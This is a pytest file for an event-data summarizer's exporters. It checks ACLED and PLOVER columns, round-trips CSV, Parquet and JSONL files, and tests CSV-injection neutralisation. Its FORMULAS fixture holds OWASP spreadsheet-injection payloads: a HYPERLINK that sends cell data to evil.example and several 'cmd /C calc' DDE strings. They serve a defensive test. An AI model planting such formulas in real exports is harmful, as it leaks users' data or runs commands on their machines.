"""Exports: column lists checked against the standards, and a round trip for every format."""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest
from conftest import DATA, ROOT
from scripted_records import scripted_records
from typer.testing import CliRunner

from summarizer.cli import app
from summarizer.export import (
    ACLED_COLUMNS,
    ACLED_REGION,
    FLAT_SCHEMA,
    LIST_SEPARATOR,
    PLOVER_ENTITY_FIELDS,
    PLOVER_LOCATION_FIELDS,
    SPAN_SEPARATOR,
    ExportFormat,
    acled_event_id,
    acled_row,
    export,
    interaction,
    plover_record,
    spreadsheet_safe,
)
from summarizer.schema import ArticleAnalysis

STANDARDS = (DATA / "standards.md").read_text(encoding="utf-8")
runner = CliRunner()


@pytest.fixture(scope="module")
def records(request: pytest.FixtureRequest, scripted_url: str) -> list[ArticleAnalysis]:
    return scripted_records(request.config, scripted_url)


def _section(title: str) -> str:
    return STANDARDS.split(f"## {title}\n", 1)[1].split("\n## ", 1)[0]


def _expand(name: str) -> list[str]:
    """``actor1/2`` -> actor1, actor2; ``admin1–3`` -> admin1..3; ``latitude/longitude``."""
    name = re.sub(r"\s*\(.*?\)", "", name).strip()
    if m := re.fullmatch(r"(\w*?)(\d)[–-](\d)", name):
        return [f"{m[1]}{i}" for i in range(int(m[2]), int(m[3]) + 1)]
    if m := re.fullmatch(r"(\w*?)(\d)/(\d)", name):
        return [f"{m[1]}{m[2]}", f"{m[1]}{m[3]}"]
    return name.split("/")


def standard_acled_columns() -> set[str]:
    cells = re.findall(r"^\| ([^|]+) \|", _section("ACLED"), flags=re.M)
    names = [n for cell in cells if cell.strip() not in ("column", "---") for n in cell.split(",")]
    return {col for name in names for col in _expand(name)}


def standard_plover_fields() -> dict[str, set[str]]:
    """Top-level fields and the sub-fields of text_info, cite_info, size and the location."""
    text = _section("PLOVER").replace("\\*", "").replace("…", "")
    fields: dict[str, set[str]] = {"": set()}
    for label, body in re.findall(r"^- \*\*(.+?):\*\* (.+?)\.?$", text, flags=re.M):
        if label == "Location object":
            fields["event_loc"] = {re.sub(r"\s*\(.*", "", f).strip() for f in body.split(",")}
            continue
        for name, sub in re.findall(r"(\w+)(?:\{([^}]*)\})?", re.sub(r"\s*\(list\)", "", body)):
            fields[""].add(name)
            if sub:
                fields[name] = {s.strip() for s in sub.split(",") if s.strip()}
    entity = re.search(r"lists\* of `\{(.+?)\}`", text)
    assert entity, "the entity field list is missing from the standards copy"
    fields["entity"] = {re.sub(r"\s*\(.*", "", f).strip() for f in entity[1].split(",")}
    return fields


def test_acled_columns_are_the_standard_ones() -> None:
    # The reference's column table leaves out the two type columns (it lists their values under
    # "6 event types and their 25 sub-event types"); ACLED's export has both, 31 columns in all.
    expected = standard_acled_columns() | {"event_type", "sub_event_type"}
    assert len(expected) == 31
    assert set(ACLED_COLUMNS) == expected
    assert len(ACLED_COLUMNS) == len(set(ACLED_COLUMNS))


def test_plover_fields_are_the_standard_ones(
    records: list[ArticleAnalysis], tmp_path: Path
) -> None:
    standard = standard_plover_fields()
    assert set(PLOVER_ENTITY_FIELDS) == standard["entity"]
    assert set(PLOVER_LOCATION_FIELDS) == standard["event_loc"]
    path = tmp_path / "events.jsonl"
    export(records, ExportFormat.plover_jsonl, path)
    first = json.loads(path.read_text(encoding="utf-8").splitlines()[0])
    assert set(first) == standard[""] | {"date_precision"}  # ours, documented
    for name in ("text_info", "cite_info", "size"):
        assert set(first[name]) == standard[name], name


def test_acled_csv_round_trip(records: list[ArticleAnalysis], tmp_path: Path) -> None:
    path = tmp_path / "acled.csv"
    pairs = [(r, e) for r in records for e in r.events if e.acled_event_type]
    left_out = [e for r in records for e in r.events if not e.acled_event_type]
    assert left_out, "the fixture should hold events ACLED does not cover"
    assert export(records, ExportFormat.acled_csv, path) == len(pairs)
    with path.open(encoding="utf-8", newline="") as f:
        reader = csv.DictReader(f)
        assert tuple(reader.fieldnames or ()) == ACLED_COLUMNS
        rows = {row["event_id_cnty"]: row for row in reader}
    assert len(rows) == len(pairs)
    assert all(row["event_type"] and row["disorder_type"] for row in rows.values())
    for record, event in pairs:
        row = rows[acled_event_id(record, event)]
        assert row["event_type"] == (event.acled_event_type or "")
        assert row["sub_event_type"] == (event.acled_sub_event_type or "")
        assert row["actor1"] == (event.actors[0].name if event.actors else "")
        assert row["assoc_actor_1"].split("; ") == [a.name for a in event.actors[1:]] or (
            row["assoc_actor_1"] == "" and len(event.actors) <= 1
        )
        assert row["actor2"] == (event.targets[0].name if event.targets else "")
        assert int(row["fatalities"]) == event.fatalities.min
        assert row["notes"] == event.summary
        assert row["location"] == (
            (event.location.geo_name or event.location.text) if event.location else ""
        )

    # The seed article's Friday strikes: day precision, ISO numeric code, state forces (1)
    # against an unidentified armed group (3).
    strike = rows[acled_event_id(records[0], records[0].events[0])]
    assert re.fullmatch(r"IRQ[0-9]{1,9}", strike["event_id_cnty"])
    assert strike["region"] == "Middle East"
    assert (strike["event_date"], strike["year"], strike["time_precision"]) == (
        "2020-03-13",
        "2020",
        "1",
    )
    assert (strike["iso"], strike["country"]) == ("368", "Iraq")
    assert (strike["inter1"], strike["inter2"], strike["interaction"]) == ("1", "3", "13")
    assert strike["disorder_type"] == "Political violence"
    # MUC documents have no publication date: nothing is resolved, so no ACLED date.
    muc = next(r for r in records if r.article.id == "mucsum-TST1-MUC3-0036")
    assert rows[acled_event_id(muc, muc.events[0])]["event_date"] == ""
    assert rows[acled_event_id(muc, muc.events[0])]["time_precision"] == ""


def test_acled_week_and_month_dates_use_acled_midpoints(records: list[ArticleAnalysis]) -> None:
    record = records[0]
    event = record.events[0]
    event.date.precision, event.date.resolved = "week", event.date.resolved.replace(day=9)
    assert (acled_row(record, event)["event_date"], acled_row(record, event)["time_precision"]) == (
        "2020-03-12",
        2,
    )
    event.date.precision, event.date.resolved = "month", event.date.resolved.replace(day=1)
    assert acled_row(record, event)["event_date"] == "2020-03-15"
    event.date.precision = "year"
    assert acled_row(record, event)["event_date"] == ""


def test_interaction_puts_the_lower_code_first(records: list[ArticleAnalysis]) -> None:
    event = records[0].events[0].model_copy(deep=True)
    event.actors[0].sector, event.targets[0].sector = "CVL", "MIL"
    assert interaction(event) == "17"
    event.targets = []
    assert interaction(event) == "70"
    event.actors[0].sector = "GOV"  # government: ACLED's state forces
    assert interaction(event) == "10"
    event.actors[0].sector = "LEG"  # a legislator: state forces or civilian, unknown
    assert interaction(event) == ""


def test_plover_jsonl_round_trip(records: list[ArticleAnalysis], tmp_path: Path) -> None:
    path = tmp_path / "events.jsonl"
    export(records, ExportFormat.plover_jsonl, path)
    lines = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    pairs = [(r, e) for r in records for e in r.events]
    assert len(lines) == len(pairs)
    for got, (record, event) in zip(lines, pairs, strict=True):
        assert got["id"] == f"{record.article.id}-{event.id}"
        assert got["event"] == [event.plover] and got["mode"] == event.plover_mode
        assert [a["identifier_text"] for a in got["actor"]] == [a.name for a in event.actors]
        assert [a["code"] for a in got["recipient"]] == [a.country for a in event.targets]
        assert got["size"]["dead"] == event.fatalities.min
        assert got["quad_code"] in (1, 2, 3, 4)
        starts, ends = got["text_info"]["start"], got["text_info"]["end"]
        assert starts == [s.start for s in event.evidence]
        assert ends == [s.end for s in event.evidence]
        assert got["event_text"].split(SPAN_SEPARATOR) == [s.text for s in event.evidence]
        assert got["date"] == (str(event.date.resolved or record.article.published or "") or None)
        assert got["date_precision"] == (
            event.date.precision
            if event.date.resolved
            else "publication"
            if record.article.published
            else "unknown"
        )
    protest = next(g for g in lines if g["id"] == "centcom-strikes-iraq-e3")
    assert protest["event"] == ["ACCUSE"] and protest["quad_code"] == 3


def test_plover_date_falls_back_to_publication(records: list[ArticleAnalysis]) -> None:
    record = records[0].model_copy(deep=True)
    event = record.events[0]
    event.date.resolved, event.date.precision = None, "unknown"
    got = plover_record(record, event)
    assert record.article.published is not None
    assert (got["date"], got["date_precision"]) == (str(record.article.published), "publication")
    record.article.published = None
    assert (
        plover_record(record, event)["date"],
        plover_record(record, event)["date_precision"],
    ) == (
        None,
        "unknown",
    )


def test_acled_civilian_targeting_region_and_state_forces(
    records: list[ArticleAnalysis],
) -> None:
    record = records[0].model_copy(deep=True)
    event = record.events[0]
    event.acled_event_type, event.acled_sub_event_type = "Violence against civilians", "Attack"
    event.actors[0].sector, event.targets = "GOV", []
    row = acled_row(record, event)
    assert row["civilian_targeting"] == "Civilian targeting"
    assert (row["inter1"], row["inter2"], row["interaction"]) == (1, "", "10")
    assert row["region"] == "Middle East" and row["country"] == "Iraq"
    event.acled_event_type, event.acled_sub_event_type = "Battles", "Armed clash"
    assert acled_row(record, event)["civilian_targeting"] == ""
    # the id is stable: derived from article id and event id only
    assert acled_event_id(record, event) == acled_event_id(records[0], records[0].events[0])
    other = record.model_copy(deep=True)
    other.article.id = "another-article"
    assert acled_event_id(other, other.events[0]) != acled_event_id(record, event)


def test_every_country_has_an_acled_region() -> None:
    import pycountry

    countries = {c.alpha_3 for c in pycountry.countries}
    assert countries - set(ACLED_REGION) == set()
    assert set(ACLED_REGION) - countries == {"KOS", "XKX"}  # Kosovo: PLOVER's and the user code


def test_flat_csv_and_parquet_round_trip(records: list[ArticleAnalysis], tmp_path: Path) -> None:
    export(records, ExportFormat.csv, tmp_path / "events.csv")
    export(records, ExportFormat.parquet, tmp_path / "events.parquet")
    table = pq.read_table(tmp_path / "events.parquet")
    assert table.schema.remove_metadata() == FLAT_SCHEMA  # stable, typed
    parquet_rows = table.to_pylist()
    with (tmp_path / "events.csv").open(encoding="utf-8", newline="") as f:
        reader = csv.DictReader(f)
        assert reader.fieldnames == FLAT_SCHEMA.names
        csv_rows = list(reader)
    pairs = [(r, e) for r in records for e in r.events]
    assert len(parquet_rows) == len(csv_rows) == len(pairs)
    for got, row, (record, event) in zip(parquet_rows, csv_rows, pairs, strict=True):
        assert got["article_id"] == row["article_id"] == record.article.id
        assert got["published"] == record.article.published
        assert got["date_resolved"] == event.date.resolved
        assert got["actors"] == [a.name for a in event.actors]
        assert row["actors"] == "; ".join(a.name for a in event.actors)
        assert got["weapons"] == [w.text for w in event.weapons]
        assert got["fatalities_min"] == event.fatalities.min == int(row["fatalities_min"])
        assert got["evidence_start"] == [s.start for s in event.evidence]
        assert got["evidence_end"] == [s.end for s in event.evidence]
        assert got["created_at"] == record.provenance.created_at
        assert row["validation_ok"] == str(record.validation.ok)


def _readme_block(after: str) -> str:
    """The first ```python block of the README after the line starting ``after``."""
    text = (ROOT / "README.md").read_text(encoding="utf-8")
    return text.split("\n" + after, 1)[1].split("```python\n", 1)[1].split("```", 1)[0]


def test_exports_round_trip_through_pandas(
    records: list[ArticleAnalysis], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The README's pandas lines, run as written, give the right types back."""
    monkeypatch.chdir(tmp_path)
    export(records, ExportFormat.csv, Path("events.csv"))
    export(records, ExportFormat.parquet, Path("events.parquet"))
    export(records, ExportFormat.plover_jsonl, Path("events.jsonl"))
    export(records, ExportFormat.acled_csv, Path("acled.csv"))
    loaded: dict[str, Any] = {}
    exec(_readme_block("To load the flat CSV"), loaded)  # the README's own code
    flat, table, plover, acled = (loaded[k] for k in ("flat", "table", "plover", "acled"))
    pairs = [(r, e) for r in records for e in r.events]

    assert list(flat["cameo_root"]) == [e.cameo_root for _, e in pairs]  # "02" stays "02"
    assert any(e.cameo_root.startswith("0") for _, e in pairs)
    assert list(flat["article_id"]) == [r.article.id for r, _ in pairs]
    assert flat["fatalities_min"].dtype.kind == "i" and flat["fatalities_max"].dtype.kind == "i"
    assert flat["validation_ok"].dtype == bool
    assert flat["location_latitude"].dtype.kind == "f"
    starts = [[int(n) for n in cell.split(LIST_SEPARATOR)] for cell in flat["evidence_start"]]
    assert starts == [[s.start for s in e.evidence] for _, e in pairs]

    assert list(table["cameo_root"]) == [e.cameo_root for _, e in pairs]
    ends = [[s.end for s in e.evidence] for _, e in pairs]
    assert [list(x) for x in table["evidence_end"]] == ends
    assert table["evidence_end"].iloc[0][0].dtype.kind == "i"
    assert table["fatalities_min"].dtype.kind == "i"

    starts = [[s.start for s in e.evidence] for _, e in pairs]
    assert list(plover["text_info"].str["start"]) == starts
    assert plover["quad_code"].dtype.kind == "i"

    assert acled["fatalities"].dtype.kind == "i" and acled["iso"].dtype.kind == "f"  # NaN: no place
    assert acled["event_id_cnty"].str.fullmatch(r"[A-Z]{3}[0-9]+").all()


def test_export_command(records: list[ArticleAnalysis], tmp_path: Path) -> None:
    source = tmp_path / "out.jsonl"
    source.write_text("".join(r.model_dump_json() + "\n" for r in records), encoding="utf-8")
    for fmt in ExportFormat:
        out = tmp_path / f"events.{fmt.value}"
        result = runner.invoke(app, ["export", str(source), "--format", fmt.value, "-o", str(out)])
        assert result.exit_code == 0, result.output
        assert out.stat().st_size > 0
        total = sum(len(r.events) for r in records)
        if fmt is ExportFormat.acled_csv:
            left_out = sum(1 for r in records for e in r.events if not e.acled_event_type)
            expected = f"{total - left_out} event(s) from 13 record(s)"
            assert f"; {left_out} without an ACLED type left out" in result.stderr
        else:
            expected = f"{total} event(s) from 13 record(s)"
        assert expected in result.stderr


@pytest.mark.parametrize(
    ("content", "needle"),
    [
        ("", "holds no record"),
        ('{"article": 1}\n', "line 1: not an ArticleAnalysis record"),
        ("{not json\n", "line 1: not JSON"),
        ("RECORD\n{not json\n", "line 2: not JSON"),
    ],
    ids=["empty", "not-a-record", "bad-json", "bad-second-line"],
)
def test_export_refuses_bad_records(
    records: list[ArticleAnalysis], tmp_path: Path, content: str, needle: str
) -> None:
    source = tmp_path / "out.jsonl"
    source.write_text(content.replace("RECORD", records[1].model_dump_json()), encoding="utf-8")
    args = ["export", str(source), "-f", "csv", "-o", str(tmp_path / "x.csv")]
    result = runner.invoke(app, args)
    assert result.exit_code == 2
    assert "Traceback" not in result.output
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: ") and needle in lines[0], lines


# Cells a spreadsheet would run (OWASP CSV injection), planted in a record's text fields.
FORMULAS = {
    "id": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "title": "+1+cmd|' /C calc'!A0",
    "source": ' "=1+1',  # after leading whitespace and a quote
    "summary": "-2+3+cmd|' /C calc'!A0",
    "actor": "@SUM(1+1)*cmd|' /C calc'!A0",
    "target": "\t=1+1",
    "place": "\r=1+1",
}


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _runs_as_formula(cell: str) -> bool:
    """OWASP: a cell starting with = + - @ (after any whitespace or quotes), a tab or a CR."""
    return cell[:1] in ("\t", "\r") or cell.lstrip(" \t\r\n\"'")[:1] in ("=", "+", "-", "@")


@pytest.mark.parametrize("fmt", [ExportFormat.acled_csv, ExportFormat.csv])
def test_csv_exports_neutralise_formulas(
    records: list[ArticleAnalysis], tmp_path: Path, fmt: ExportFormat
) -> None:
    record = records[0]
    record.article.id, record.article.title = FORMULAS["id"], FORMULAS["title"]
    record.article.source = FORMULAS["source"]
    event = record.events[0]
    event.summary = FORMULAS["summary"]
    event.actors[0].name, event.targets[0].name = FORMULAS["actor"], FORMULAS["target"]
    event.location.text = FORMULAS["place"]
    path = tmp_path / "events.csv"
    export(records, fmt, path)
    with path.open(encoding="utf-8", newline="") as f:
        table = list(csv.DictReader(f))
    cells = [c for row in table for c in row.values()]
    numbers = [c for c in cells if _runs_as_formula(c) and _is_number(c)]  # e.g. longitude -89.9
    assert not [
        c for c in cells if _runs_as_formula(c) and not c.startswith("'") and not _is_number(c)
    ]
    if fmt is ExportFormat.acled_csv:  # negative coordinates (MUCSUM's Americas) stay numbers
        assert numbers

    # The only change is the leading quote; numeric columns keep their numbers.
    row = table[0]
    acled = fmt is ExportFormat.acled_csv
    planted = {
        **({} if acled else {"article_id": FORMULAS["id"]}),  # ACLED's id is ISO3 + digits
        "source": FORMULAS["source"],
        "notes" if acled else "summary": FORMULAS["summary"],
        "actor1" if acled else "actors": FORMULAS["actor"],
    } | ({} if acled else {"title": FORMULAS["title"], "location": FORMULAS["place"]})
    for column, value in planted.items():
        assert row[column] == "'" + value, column
    assert row["actor2" if acled else "targets"].startswith("'" + FORMULAS["target"])
    for column in ("fatalities", "iso", "timestamp") if acled else ("fatalities_min",):
        assert int(row[column]) >= 0, column
    assert [r["notes" if acled else "summary"] for r in table[1:]] == [
        e.summary for r in records for e in r.events if e.acled_event_type or not acled
    ][1:]  # ordinary text is untouched


def test_spreadsheet_safe_keeps_numbers() -> None:
    assert spreadsheet_safe(-33.9) == -33.9 and spreadsheet_safe(-4) == -4
    assert [spreadsheet_safe(s) for s in ("-33.9", "+4", "-1e-3", "12:40")] == [
        "-33.9", "+4", "-1e-3", "12:40",
    ]  # fmt: skip
    assert [spreadsheet_safe(s) for s in ("-1+1", "- 5", "@A1", " =1", "'=1", "\tx")] == [
        "'-1+1", "'- 5", "'@A1", "' =1", "''=1", "'\tx",
    ]  # fmt: skip
